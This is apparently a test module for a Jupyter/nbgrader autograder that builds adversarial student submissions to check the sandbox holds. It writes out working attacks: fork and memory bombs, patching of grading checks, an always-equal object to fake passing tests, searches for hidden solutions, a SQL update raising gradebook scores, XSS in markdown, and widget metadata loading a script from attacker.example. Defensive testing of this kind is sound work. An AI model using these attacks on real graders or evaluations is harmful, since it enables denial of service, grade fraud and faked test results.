"""The adversarial corpus: the same attacks on every homework, generated from its notebooks.

``corpus(hw, ...)`` reads the homework's source (solutions/) and release (notebooks/) and builds
one submission per attack, each with the exact score it must get: an attack added to the honest
source must cost nothing but what the attack itself breaks, and an attack added to the blank
release must score zero. Nothing here knows a homework's items: they are read from the notebooks
(each test cell ``test_<id>`` grades the solution cell ``<id>``, whose first ``def`` is the
function the tests call), so every new homework gets the corpus for free.
"""
from __future__ import annotations

import ast
import copy
from dataclasses import dataclass

import nbformat

from conftest import ROOT


def _gid(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _is_test(cell) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return cell.cell_type == "code" and meta.get("grade") and not meta.get("solution")


@dataclass
class Homework:
    """What the corpus needs to know of a homework, read from its notebooks."""

    name: str
    source: nbformat.NotebookNode
    release: nbformat.NotebookNode

    @classmethod
    def read(cls, hw: str) -> "Homework":
        return cls(hw, nbformat.read(ROOT / "solutions" / hw / f"{hw}.ipynb", as_version=4),
                   nbformat.read(ROOT / "notebooks" / hw / f"{hw}.ipynb", as_version=4))

    @property
    def points(self) -> dict[str, float]:
        """The automatically graded test cells and their points."""
        return {_gid(c): float(c.metadata["nbgrader"]["points"]) for c in self.source.cells if _is_test(c)}

    @property
    def first_item(self) -> tuple[str, str]:
        """The first graded solution cell's id and the name of the function it defines."""
        tests = set(self.points)
        for cell in self.source.cells:
            gid = _gid(cell)
            if cell.cell_type == "code" and f"test_{gid}" in tests:
                defs = [n.name for n in ast.parse(cell.source).body if isinstance(n, ast.FunctionDef)]
                if defs:
                    return gid, defs[0]
        raise AssertionError(f"{self.name}: no solution cell with a function and a test cell test_<id>")

    def full(self, lost: tuple[str, ...] = ()) -> dict[str, float]:
        """The honest source's score per test cell, with the tests in ``lost`` at zero."""
        return {gid: 0.0 if gid in lost else points for gid, points in self.points.items()}

    def zero(self) -> dict[str, float]:
        return {gid: 0.0 for gid in self.points}


def with_cell(nb, source: str, after_first: bool = True) -> nbformat.NotebookNode:
    """``nb`` with a cell of the student's own (no nbgrader metadata) after its first code cell."""
    nb = copy.deepcopy(nb)
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") if after_first else len(nb.cells) - 1
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(source))
    return nb


def with_markdown(nb, source: str) -> nbformat.NotebookNode:
    """``nb`` with a markdown cell of the student's own at its end."""
    nb = copy.deepcopy(nb)
    nb.cells.append(nbformat.v4.new_markdown_cell(source))
    return nb


def replaced(nb, gid: str, source: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if _gid(cell) == gid:
            cell.source = source
    return nb


def _tests_changed(nb, change) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in (change(c) if _is_test(c) else c for c in nb.cells) if c is not None]
    return nb


# The attacks' code. Each runs in the student's process during autograding.

LOOP = "while True:\n    pass"

FORK_BOMB = "import os\nwhile True:\n    os.fork()"

MEMORY_BOMB = "hoard = []\nwhile True:\n    hoard.append(bytearray(256 << 20))"

FLOOD = "print('x' * (100 << 20))"

EXIT = "import os\nos._exit(0)"

KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"

PATCH_CHECKS = """
import numpy, torch, seqmem.grading
for module in (seqmem.grading, *(m for n, m in vars(seqmem.grading).items() if n == 'guard' or n.startswith('hw'))):
    for name in dir(module):
        if name.startswith('check_') or name in ('close', 'fail', 'guard_tensor', 'guard_array', 'call'):
            setattr(module, name, lambda *args, **kwargs: None)
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
"""

SILENCE = """
import sys
shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
shell.showsyntaxerror = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
"""

ALWAYS_EQUAL = """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, key): return self
    def __len__(self): return 1
    def __iter__(self): return iter([self, self])
def {name}(*args, **kwargs):
    return Anything()
"""

LOOP_IN_FUNCTION = "def {name}(*args, **kwargs):\n    while True:\n        pass\n"

KILL_IN_FUNCTION = "import os, signal\ndef {name}(*args, **kwargs):\n    os.kill(os.getpid(), signal.SIGKILL)\n"

READ_SECRETS = """
import glob, os
secrets = ('BEGIN ' + 'SOLUTION', 'BEGIN ' + 'HIDDEN TESTS', 'SQLite format 3', 'c.Course' + 'Directory')
places = ['/', '/root', '/home', '/work', '/tmp', os.getcwd(), os.path.expanduser('~'), '/proc/1/root', '/proc/1/cwd']
for up in range(1, 6):
    places.append(os.path.abspath(os.path.join(os.getcwd(), *['..'] * up)))
seen = set()
for place in places:
    for folder, dirs, files in os.walk(place):
        if folder.startswith(('/proc/sys', '/sys', '/dev', '/usr', '/proc/self')) or len(seen) > 20000:
            dirs[:] = []
            continue
        for name in files:
            path = os.path.join(folder, name)
            if path in seen or not name.endswith(('.ipynb', '.db', '.py', '.log', 'environ', '.csv')):
                continue
            seen.add(path)
            try:
                text = open(path, 'rb').read(1 << 22).decode('utf-8', 'replace')
            except OSError:
                continue
            if any(s in text for s in secrets) and '/site-packages/' not in path and '/lib/seqmem/' not in path:
                print('FOUND', path)
"""

GRADEBOOK = """
import os, sqlite3
for place in ['/', os.getcwd(), os.path.expanduser('~')] + [os.path.join(os.getcwd(), *['..'] * k) for k in range(1, 6)]:
    for folder, dirs, files in os.walk(place):
        if folder.startswith(('/proc', '/sys', '/dev', '/usr')):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith('.db'):
                try:
                    db = sqlite3.connect(os.path.join(folder, name))
                    db.execute('UPDATE grade SET manual_score = 1000, auto_score = 1000')
                    db.commit()
                    print('RAISED', os.path.join(folder, name))
                except Exception as err:
                    pass
"""

WRITE_OUTSIDE = """
import os
for folder in ['/', '/tmp', '/var/tmp', '/dev/shm', '/root', '/work', '/home', os.getcwd(),
               os.path.expanduser('~')] + [os.path.join(os.getcwd(), *['..'] * k) for k in range(1, 6)]:
    try:
        with open(os.path.join(folder, '{marker}'), 'w') as f:
            f.write('written by an attack')
        print('WROTE', folder)
    except OSError:
        pass
"""

NETWORK = """
import socket
for host in ('127.0.0.1', 'localhost', '::1'):
    try:
        with socket.create_connection((host, {port}), timeout=3) as s:
            s.sendall(b'attack')
        print('CONNECTED', host)
    except OSError as err:
        print('no connection to', host, type(err).__name__)
"""


FORGES_FRAMES = """
import json, os, struct, sys
reply = int(sys.argv[2])  # the worker's answer pipe, which this process can write to
head = json.dumps({"t": "list", "items": [{"t": "foreign", "type": f"Forged{k}"} for k in range(50000)]}).encode()
os.write(reply, struct.pack(">II", len(head), 0) + head)  # a well-formed answer to nothing, 50000 type names
"""

WIDGETS = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
    "forged": {"model_module": "https://attacker.example/widget.js", "model_name": "Steal", "state": {}}}}}


def with_metadata(nb, **metadata) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.metadata.update(metadata)
    return nb


SCRIPT = """My notes. <script>fetch('/formgrader/api/grade', {method: 'PUT'})</script>
<img src="x" onerror="alert('grades')"> <a href="javascript:alert(1)">a link</a>"""


def corpus(hw: str, port: int, marker: str) -> dict[str, tuple[nbformat.NotebookNode, dict[str, float]]]:
    """Every attack on homework ``hw``: student id -> (submitted notebook, expected test scores).

    ``port`` is a TCP server on 127.0.0.1 that must see no connection; ``marker`` a file name that
    must appear nowhere outside the sandbox.
    """
    h = Homework.read(hw)
    gid, name = h.first_item
    first_test = f"test_{gid}"
    src, blank = h.source, h.release
    in_first = lambda code: replaced(src, gid, code.format(name=name))  # noqa: E731
    loop_first = replaced(src, gid, LOOP + "\n" + src.cells[[_gid(c) for c in src.cells].index(gid)].source)
    return {
        "honest": (src, h.full()),
        "blank": (blank, h.zero()),
        "loop_cell": (loop_first, h.full(lost=(first_test,))),
        "loop_function": (in_first(LOOP_IN_FUNCTION), h.full(lost=(first_test,))),
        "raises": (with_cell(src, "raise RuntimeError('an error of my own')"), h.full()),
        "exits": (with_cell(src, EXIT), h.full()),
        "kills_kernel": (with_cell(src, KILL), h.full()),
        "kills_in_function": (in_first(KILL_IN_FUNCTION), h.full(lost=(first_test,))),
        "memory_bomb": (with_cell(src, MEMORY_BOMB), h.full()),
        "fork_bomb": (with_cell(src, FORK_BOMB), h.full()),
        "flood": (with_cell(src, FLOOD), h.full()),
        "always_equal": (in_first(ALWAYS_EQUAL), h.full(lost=(first_test,))),
        "patches_checks": (with_cell(blank, PATCH_CHECKS), h.zero()),
        "silences_errors": (with_cell(blank, SILENCE), h.zero()),
        "rewrites_tests": (_tests_changed(blank, lambda c: nbformat.v4.new_code_cell("pass", metadata=c.metadata)),
                           h.zero()),
        "deletes_tests": (_tests_changed(src, lambda c: None), h.full()),
        "reads_secrets": (with_cell(src, READ_SECRETS), h.full()),
        "raises_grades": (with_cell(src, GRADEBOOK), h.full()),
        "writes_outside": (with_cell(src, WRITE_OUTSIDE.format(marker=marker)), h.full()),
        "network": (with_cell(src, NETWORK.format(port=port)), h.full()),
        "scripts_the_formgrader": (with_markdown(src, SCRIPT), h.full()),
        "forges_frames": (with_cell(src, FORGES_FRAMES), h.full()),
        "widget_metadata": (with_metadata(src, widgets=WIDGETS), h.full()),
    }


ATTACKS = ["honest", "blank", "loop_cell", "loop_function", "raises", "exits", "kills_kernel", "kills_in_function",
           "memory_bomb", "fork_bomb", "flood", "always_equal", "patches_checks", "silences_errors", "rewrites_tests",
           "deletes_tests", "reads_secrets", "raises_grades", "writes_outside", "network", "scripts_the_formgrader",
           "forges_frames", "widget_metadata"]
